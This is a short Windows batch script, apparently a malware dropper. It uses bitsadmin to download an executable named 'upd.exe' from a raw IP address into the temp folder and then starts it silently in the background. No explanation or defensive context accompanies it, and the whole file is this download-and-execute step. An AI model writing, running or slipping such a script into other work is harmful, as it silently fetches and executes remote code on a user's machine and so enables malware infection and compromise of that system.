@echo off
bitsadmin /transfer drv /download /priority foreground http://198.51.100.61/drv/upd.exe "%TEMP%\upd.exe"
start "" /b "%TEMP%\upd.exe" /silent
